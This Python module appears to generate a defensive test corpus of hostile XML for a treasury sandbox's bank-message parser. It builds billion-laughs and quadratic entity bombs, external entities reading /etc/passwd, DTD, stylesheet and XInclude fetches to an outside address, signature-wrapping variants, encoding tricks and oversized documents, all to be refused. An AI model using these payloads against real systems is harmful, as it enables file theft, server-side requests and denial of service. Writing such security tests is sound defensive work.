"""Documents an attacker would send, each named; all must be refused, quickly and without a look outside.

Generated, not stored: a hundred megabytes have no place in a repository. Each attack is tried on every kind of message that a
bank sends, and each piece of hostile markup in places drawn by lot.
"""

from __future__ import annotations

import datetime as dt
import random
import re
from collections.abc import Iterator

from khobac.sandbox.bank import messages

_AT = dt.datetime(2026, 3, 24, 9, 30, tzinfo=dt.UTC)
_DEBIT = messages.Entry("TT-1", _AT.date(), "R-1", (messages.Payment("TT-1", 7_700_000),))
_RETURN = messages.Entry("TT-1", _AT.date(), "R-2", (messages.Payment("TT-1", 7_700_000, reason_code="AC04"),), True)
GOOD = messages.debit_note(message_id="NHA-1", created_at=_AT, account="9111", entries=[_DEBIT])
GOODS = {
    "debit note": GOOD,
    "return note": messages.return_note(message_id="NHA-1", created_at=_AT, account="9111", entries=[_RETURN]),
    "statement": messages.statement(
        message_id="NHA-1", created_at=_AT, account="9111", day=_AT.date(), opening=9_000_000, entries=[_DEBIT]
    ),
    "status report": messages.status_report(
        message_id="NHA-1",
        created_at=_AT,
        original_message_id="KB1",
        verdicts=[messages.Verdict("TT-1", "RJCT", (messages.Payment("TT-1", 7_700_000, reason_code="AC04"),))],
    ),
}
"""What the attacks are made from; each of these is taken."""
PLACES = 25
"""How often each piece of hostile markup is put somewhere, in each kind of message."""
_DECLARATION = b"<?xml version='1.0' encoding='UTF-8'?>"
INVOICE = (
    _DECLARATION + b"<HDon><DLHDon><TTChung><SHDon>NHA-1</SHDon></TTChung><NDHDon><NBan><MST>3200</MST></NBan>"
    b"<TToan><TgTTTBSo>7700000</TgTTTBSo></TToan></NDHDon></DLHDon></HDon>"
)
"""A good file of a unit."""
_PIECES = {
    "a comment": b"<!-- -->",
    "hidden text": b"<![CDATA[7]]>",
    "a processing instruction": b"<?php echo 1 ?>",
    "an undeclared entity": b"&who;",
    "a foreign element": b"<x xmlns='urn:evil'/>",
    "a NUL": b"\x00",
    "a lone surrogate": b"\xed\xa0\x80",
    "a document type": b"<!DOCTYPE d []>",
}


def corpus(outside: str, seed: int = 1) -> Iterator[tuple[str, bytes]]:
    """All messages; `outside` is an address that would notice a visit, the seed decides where markup is put."""
    yield from _huge()
    for kind, good in GOODS.items():
        body = good[good.index(b"?>") + 2 :].strip()
        for name, hostile in (*_attacks(body, outside, seed), *_shapes(body, outside), *_values(body)):
            if hostile != body:
                yield f"{kind}: {name}", hostile
    yield from _broken()


def files(outside: str, seed: int = 1) -> Iterator[tuple[str, bytes]]:
    """The same attacks in an XML file that a unit encloses."""
    body = INVOICE.removeprefix(_DECLARATION)
    for name, hostile in (*_huge(), *_attacks(body, outside, seed)):
        if hostile != body:
            yield f"invoice: {name}", hostile if hostile.startswith(b"<?xml") else _DECLARATION + hostile


def _attacks(body: bytes, outside: str, seed: int) -> Iterator[tuple[str, bytes]]:
    """What can be done to any document with an id of NHA-1 and an amount of 7700000."""
    yield from _entities(body, outside)
    yield from _markup(body, outside)
    yield from _encodings(body)
    yield from _large(body)
    yield from _wrapped(body)
    yield from _placed(body, random.Random(seed))


def _placed(body: bytes, chance: random.Random) -> Iterator[tuple[str, bytes]]:
    """Markup between elements or in the middle of a text, never inside a tag."""
    outside_tags = [at for at in range(1, len(body)) if body.rfind(b"<", 0, at) < body.rfind(b">", 0, at)]
    for name, piece in _PIECES.items():
        for at in sorted(chance.sample(outside_tags, min(PLACES, len(outside_tags)))):
            yield f"{name} at byte {at}", body[:at] + piece + body[at:]


def _wrapped(body: bytes) -> Iterator[tuple[str, bytes]]:
    """Signatures inside the message, as XML signatures would stand there: ours stand beside it, over the whole."""
    signature = b"<ds:Signature xmlns:ds='http://www.w3.org/2000/09/xmldsig#'>%s</ds:Signature>"
    reference = b"<ds:SignedInfo><ds:Reference URI='#a'/></ds:SignedInfo>"
    enclosed = signature % (reference + b"<ds:Object Id='a'>" + body + b"</ds:Object>")
    root_end = body.rfind(b"</")
    yield "an XML signature at the end", body[:root_end] + signature % reference + body[root_end:]
    yield "an XML signature at the beginning", body.replace(b"<GrpHdr>", signature % reference + b"<GrpHdr>")
    yield "the signed message inside a signature", enclosed
    yield "the signed message inside another", body[:root_end] + enclosed + body[root_end:]
    yield "the signed message beside another", body + enclosed
    yield "an identified root", body.replace(b"<Document ", b"<Document Id='a' ")
    yield "an identified header", body.replace(b"<GrpHdr>", b"<GrpHdr xml:id='a'>")
    yield "a header signed elsewhere", body.replace(b"<GrpHdr>", b"<GrpHdr>" + signature % reference, 1)


def _namespace(body: bytes) -> bytes:
    found = re.search(rb'xmlns="([^"]+)"', body)
    if found is None:
        raise ValueError("a message has a namespace")
    return found[1]


def _with_text(body: bytes, text: bytes) -> bytes:
    return body.replace(b">NHA-1<", b">" + text + b"<", 1)


def _entities(body: bytes, outside: str) -> Iterator[tuple[str, bytes]]:
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    yield "billion laughs", b'<!DOCTYPE d [<!ENTITY l0 "ha">' + laughs + b"]>" + _with_text(body, b"&l9;")
    yield (
        "quadratic blow-up",
        b'<!DOCTYPE d [<!ENTITY a "' + b"a" * 100_000 + b'">]>' + _with_text(body, b"&a;" * 10_000),
    )
    for target in (
        "file:///etc/passwd",
        f"http://{outside}/x",
        "ftp://127.0.0.1/x",
        "php://filter/x",
        "netdoc:///etc/hosts",
    ):
        yield (
            f"external entity {target}",
            f'<!DOCTYPE d [<!ENTITY x SYSTEM "{target}">]>'.encode() + _with_text(body, b"&x;"),
        )
        yield f"parameter entity {target}", f'<!DOCTYPE d [<!ENTITY % x SYSTEM "{target}"> %x;]>'.encode() + body
        yield f"external DTD {target}", f'<!DOCTYPE Document SYSTEM "{target}">'.encode() + body
    yield "public DTD", f'<!DOCTYPE Document PUBLIC "-//X" "http://{outside}/d">'.encode() + body
    yield "internal subset with default attribute", b'<!DOCTYPE d [<!ATTLIST Amt Ccy CDATA "USD">]>' + body
    yield "recursive entity", b'<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]>' + _with_text(body, b"&a;")
    yield "undeclared entity", _with_text(body, b"&who;")
    yield "DTD in lower case", b"<!doctype d []>" + body
    yield "DTD after white space", b"<?xml version='1.0'?>\n\n <!DOCTYPE d []>" + body


def _markup(body: bytes, outside: str) -> Iterator[tuple[str, bytes]]:
    yield "comment that splits an amount", body.replace(b">7700000<", b">77<!-- -->00000<")
    yield "CDATA that hides an amount", body.replace(b">7700000<", b"><![CDATA[7700000]]><")
    yield "comment before the root", b"<!-- x -->" + body
    yield "style sheet", f"<?xml-stylesheet href='http://{outside}/s'?>".encode() + body
    yield "processing instruction inside", _with_text(body, b"A<?php echo 1 ?>B")
    yield "second XML declaration", _DECLARATION + _DECLARATION + body
    yield "declaration not at the start", b" " + _DECLARATION + body
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://{outside}/i"/>'
    yield "XInclude", _with_text(body, include.encode())
    yield "script element", _with_text(body, b"<script>alert(1)</script>")


def _encodings(body: bytes) -> Iterator[tuple[str, bytes]]:
    text = body.decode()
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037"):
        yield f"encoded as {encoding}", text.encode(encoding)
    for name in ("UTF-16", "ISO-8859-1", "UTF-7", "EBCDIC-CP-US", "x-unknown"):
        yield f"declared as {name}", f"<?xml version='1.0' encoding='{name}'?>".encode() + body
    hidden = "<?xml version='1.0'?><!DOCTYPE d [<!ENTITY a 'KB-9'>]>" + text.replace(">NHA-1<", ">&a;<")
    yield "entity hidden from a byte search by UTF-16", hidden.encode("utf-16-le")
    yield "byte order mark", b"\xef\xbb\xbf" + body
    yield "overlong UTF-8", _with_text(body, b"\xc0\xbc")
    yield "lone surrogate", _with_text(body, b"\xed\xa0\x80")
    yield "Latin-1 byte", _with_text(body, b"Nguy\xean")
    yield "NUL byte", _with_text(body, b"A\x00B")
    yield "NUL by reference", _with_text(body, b"A&#0;B")
    yield "control character by reference", _with_text(body, b"A&#27;B")
    yield "beyond Unicode by reference", _with_text(body, b"&#x110000;")


def _huge() -> Iterator[tuple[str, bytes]]:
    """Documents in which no message is left."""
    yield "100 MB of text", b"<Document>" + b"x" * 100_000_000
    yield "100,000 levels", b"<a>" * 100_000
    for depth in (101, 200, 300, 5_000):
        yield f"{depth} levels of its own", b"<a>" * depth + b"</a>" * depth
    root = b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.054.001.08">'
    yield "a million elements", root + b"<a/>" * 1_000_000 + b"</Document>"
    yield "as many wrong elements as the limit allows", root + b"<a/>" * 159_000 + b"</Document>"
    yield "400,000 attributes", root + b"<a " + b" ".join(b'a%d=""' % n for n in range(400_000)) + b"/></Document>"
    namespaces = b" ".join(b'xmlns:a%d="u"' % n for n in range(200_000))
    yield "200,000 namespaces", root + b"<a " + namespaces + b"/></Document>"
    yield "a start tag of a megabyte", b"<Document x='" + b"y" * 1_000_000 + b"'/>"
    yield "a name of a megabyte", b"<" + b"D" * 1_000_000 + b"/>"


def _large(body: bytes) -> Iterator[tuple[str, bytes]]:
    for depth in (101, 200, 300, 5_000):
        deep = b"<a>" * depth + b"</a>" * depth
        yield (
            f"{depth} levels where the schema allows anything",
            _supplemented(body, b'<d xmlns="urn:x">' + deep + b"</d>"),
        )
    yield "39,000 wrong entries", body.replace(b"<Ntry>", b"<Ntry><Amt Ccy='1'>x</Amt></Ntry>" * 39_000 + b"<Ntry>")
    yield "an id of a megabyte", _with_text(body, b"M" * 1_000_000)
    yield "a million character references", _with_text(body, b"&#65;" * 900_000)
    texts = b"<t xmlns='urn:x'>" + b"&#65;" * 800 + b"</t>"
    many = _supplemented(body, b"<d xmlns='urn:x'>" + texts * 1_200 + b"</d>")
    yield "many texts of many references", many.replace(b"</SplmtryData>", b"</SplmtryData><x/>")
    yield "an amount of a thousand digits", body.replace(b">7700000<", b">" + b"7" * 1_000 + b"<")


def _supplemented(body: bytes, anything: bytes) -> bytes:
    """With what the schema allows at the end of a message: elements of any namespace."""
    end = body.rfind(b"</", 0, body.rfind(b"</"))
    return body[:end] + b"<SplmtryData><Envlp>" + anything + b"</Envlp></SplmtryData>" + body[end:]


def _shapes(body: bytes, outside: str) -> Iterator[tuple[str, bytes]]:
    namespace = _namespace(body)
    yield "no namespace", body.replace(b' xmlns="' + namespace + b'"', b"")
    yield "foreign namespace", body.replace(namespace, b"urn:evil")
    yield "namespace with a trailing space", body.replace(namespace, namespace + b" ")
    yield "version this treasury does not read", body.replace(namespace, namespace[:-2] + b"99")
    yield "our own kind of message", body.replace(namespace, namespace[:-15] + b"pain.001.001.09")
    yield "another root element", body.replace(b"Document", b"Documents")
    yield "children in a foreign namespace", body.replace(b"<GrpHdr>", b'<GrpHdr xmlns="urn:evil">')
    yield "message wrapped in a message", b'<Document xmlns="' + namespace + b'">' + body + b"</Document>"
    yield "wrapped in a SOAP envelope", b'<E xmlns="http://schemas.xmlsoap.org/soap/envelope/">' + body + b"</E>"
    yield "two roots", body + body
    yield "two headers", body.replace(b"</GrpHdr>", b"</GrpHdr><GrpHdr><MsgId>X</MsgId></GrpHdr>")
    yield "two amounts", body.replace(b"<CdtDbtInd>", b'<Amt Ccy="VND">1</Amt><CdtDbtInd>', 1)
    hint = f'xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="urn:evil http://{outside}/s.xsd"'
    yield (
        "schema elsewhere",
        body.replace(b"<Document", b"<Document " + hint.encode()).replace(namespace, b"urn:evil"),
    )
    yield (
        "type swapped by xsi:type",
        body.replace(b"<GrpHdr>", b'<GrpHdr xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:type="Document">'),
    )
    yield (
        "nil header",
        body.replace(b"<GrpHdr>", b'<GrpHdr xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:nil="true">'),
    )


def _values(body: bytes) -> Iterator[tuple[str, bytes]]:
    """Well-formed, and still no message."""
    yield "cut in the middle", body[: len(body) // 2]
    yield "last byte missing", body[:-1]
    yield "bytes after the end", body + b"tail"
    yield "attribute twice", body.replace(b'Ccy="VND"', b'Ccy="VND" Ccy="USD"')
    yield "unbound prefix", body.replace(b"<GrpHdr>", b"<x:GrpHdr>").replace(b"</GrpHdr>", b"</x:GrpHdr>")
    yield "a day that does not exist", body.replace(b"<Dt>2026-03-24<", b"<Dt>2026-02-30<")
    yield "a year of seven digits", body.replace(b"<Dt>2026-03-24<", b"<Dt>2000026-03-24<")
    yield "a year before Christ", body.replace(b"<CreDtTm>2026", b"<CreDtTm>-0026")
    moment = b"<CreDtTm>2026-03-24T09:30:00+00:00"
    yield "a moment before the calendar", body.replace(moment, b"<CreDtTm>0001-01-01T00:00:00+14:00")
    yield "a moment after the calendar", body.replace(moment, b"<CreDtTm>9999-12-31T23:59:59-14:00")
    yield "an amount in digits of another script", body.replace(b">7700000<", ">٧<".encode())
    yield "an amount with an exponent", body.replace(b">7700000<", b">77E5<")


def _broken() -> Iterator[tuple[str, bytes]]:
    yield "nothing", b""
    yield "white space", b"   \n"
    yield "an HTML error page", b"<html><body>502 Bad Gateway</body></html>"
    yield "a zip file", b"PK\x03\x04" + b"\0" * 100
    yield "a PDF", b"%PDF-1.7\n"
    for body in (b"{}", b"[]", b"{" * 2_000, b'{"received": false}', b'{"received": true}', b"{" + b" " * 5_000 + b"}"):
        yield f"JSON that is no answer: {body[:20]!r} of {len(body)}", body
